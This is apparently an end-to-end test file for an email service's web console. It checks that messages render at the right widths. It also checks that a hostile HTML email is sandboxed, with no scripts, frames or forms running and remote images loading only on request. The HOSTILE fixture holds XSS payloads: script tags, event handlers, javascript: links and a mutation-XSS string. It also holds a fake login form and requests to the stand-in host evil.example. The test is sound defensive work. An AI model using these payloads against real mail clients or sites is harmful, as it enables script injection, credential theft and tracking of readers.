// Mail that means harm, as the console shows it: nothing of it runs, nothing is loaded unasked, and looking at it counts nothing.
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { send, UNKNOWN_ID } from '../../support/builders/emails.ts'
import { signIn } from '../../support/clients/console.ts'
import { shared, startTestService } from '../../support/servers/service.ts'
import { violationsOn } from '../axe.ts'
import { browserOfWorker, closePages } from '../browser.ts'
import { openApp } from './app.ts'
import { SETTLED } from './look.ts'

let browser: Browser
const service = shared(() => startTestService({ environment: { ROLES: 'api' } }))
beforeAll(async () => {
  browser = await browserOfWorker()
})
afterAll(() => closePages(browser))

const OTHER = 'https://evil.example'
const HOSTILE = `<script>parent.document.title = 'taken'; fetch('${OTHER}/fetched')</script><p onclick="x()" onmouseover="x()">Hello</p>
<img src="x" onerror="parent.document.title = 'taken'"><svg onload="parent.document.title = 'taken'"><script>parent.document.title = 'taken'</script></svg>
<meta http-equiv="refresh" content="0;url=${OTHER}/refreshed"><base href="${OTHER}/"><link rel="stylesheet" href="${OTHER}/style.css">
<link rel="preconnect" href="${OTHER}"><iframe src="${OTHER}/frame"></iframe><object data="${OTHER}/object"></object><embed src="${OTHER}/embed">
<form action="${OTHER}/form"><input name="password"><button>Log in</button></form><style>@import url(${OTHER}/import.css); p { background: url(${OTHER}/style.png) }</style>
<a href="javascript:parent.document.title='taken'">Script</a><a target="_top" href="${OTHER}/top">Top</a>
<math><mtext></form><form><mglyph><style></math><img src onerror="parent.document.title='taken'"></style>
<img src="/topics"><img src="/console/sign-out"><img src="${OTHER}/pixel.png" width="1" height="1"><video src="${OTHER}/video" poster="${OTHER}/poster.png" autoplay></video>`

it('shows all of a mail of a fixed width, smaller where it is wider than its place', async () => {
  const fixed = await send(service, {
    subject: 'Wide',
    html: '<!--[if mso]><table width="1200"><![endif]--><table width="700" style="border: 0"><tr><td>All of it <img src="x" width="900" style="max-width: 100%"></td></tr></table>',
  })
  const fluid = await send(service, {
    subject: 'Narrow',
    html: '<style>@media (max-width: 600px) { table { width: 100% } }</style><table width="700"><tr><td>Fits</td></tr></table>',
  })
  const { page } = await openApp(browser, { origin: service.url, cookie: await signIn(service), path: `/emails/${fixed}`, width: 390 })
  const widths = async () => {
    const frame = page.locator('iframe[title=Message]')
    await frame.scrollIntoViewIfNeeded()
    return {
      inside: await frame.evaluate((element: { clientWidth: number }) => element.clientWidth),
      shown: (await frame.boundingBox())?.width ?? 0,
    }
  }
  await page.frameLocator('iframe[title=Message]').getByText('All of it').waitFor()
  await expect.poll(async () => (await widths()).inside).toBe(716)
  expect((await widths()).shown).toBeLessThan(390)
  await page.setViewportSize({ width: 1440, height: 900 })
  await expect.poll(async () => (await widths()).inside).toBeGreaterThan(716)
  await page.getByText('Phone', { exact: true }).click()
  await expect.poll(widths).toEqual({ inside: 716, shown: 373 })
  await page.goto(`${service.url}/console/emails/${fluid}`)
  await page.getByText('Phone', { exact: true }).click()
  await expect.poll(widths).toEqual({ inside: 373, shown: 373 })
})

it('runs nothing of hostile HTML, loads its images only when asked, and follows links past our tracking', async () => {
  const { trackingTokens } = service.service.context
  const link = { kind: 'click' as const, emailId: UNKNOWN_ID, recipientId: UNKNOWN_ID, domainId: null, target: `${OTHER}/shop` }
  const tracked = `${service.url}/t/c/${trackingTokens.create(link, new URL(service.url).hostname)}`
  const id = await send(service, { subject: 'Harm', html: `${HOSTILE}<a href="${tracked}">Shop</a>` })
  const { page } = await openApp(browser, { origin: service.url, cookie: await signIn(service), path: `/emails/${id}` })
  const context = page.context()
  const asked: string[] = []
  // What the policy of the frame stops never gets so far.
  context.on('requestfinished', (request) => asked.push(request.url()))
  await context.route(`${OTHER}/**`, (route) => route.fulfill({ body: '<title>Shop</title>', contentType: 'text/html' }))
  const element = page.locator('iframe[title=Message]')
  expect(await element.getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox')
  const frame = page.frameLocator('iframe[title=Message]')
  await frame.getByText('Hello').click()
  await page.getByText('Images of other machines are not loaded').waitFor()
  expect(await page.title()).not.toBe('taken')
  expect(asked.filter((url) => url.startsWith(OTHER))).toEqual([])
  expect(asked.filter((url) => /\/(?:topics|sign-out)$/.test(url))).toEqual([])

  await page.getByRole('button', { name: 'Show images' }).click()
  await expect
    .poll(() =>
      asked
        .filter((url) => url.startsWith(OTHER))
        .map((url) => url.slice(OTHER.length))
        .toSorted(),
    )
    .toContain('/pixel.png')
  const loaded = new Set(asked.filter((url) => url.startsWith(OTHER)).map((url) => url.slice(OTHER.length)))
  // Images alone: neither scripts, styles, frames, videos nor forms.
  expect([...loaded].filter((path) => !path.endsWith('.png'))).toEqual([])

  const [tab] = await Promise.all([context.waitForEvent('page'), frame.getByRole('link', { name: 'Shop' }).click()])
  await tab.waitForLoadState()
  expect([tab.url(), await tab.evaluate('[window.opener, document.referrer]')]).toEqual([`${OTHER}/shop`, [null, '']])
  expect(asked.filter((url) => url.includes('/t/'))).toEqual([])
  expect(page.url()).toContain(`/console/emails/${id}`)
  await tab.close()

  // The section that is shown stays readable with the pointer on it.
  await page.getByRole('navigation', { name: 'Mail' }).getByRole('link', { name: 'Emails' }).hover()
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme })
    await page.evaluate(SETTLED)
    expect({ colorScheme, violations: await violationsOn(page) }).toEqual({ colorScheme, violations: [] })
  }
})
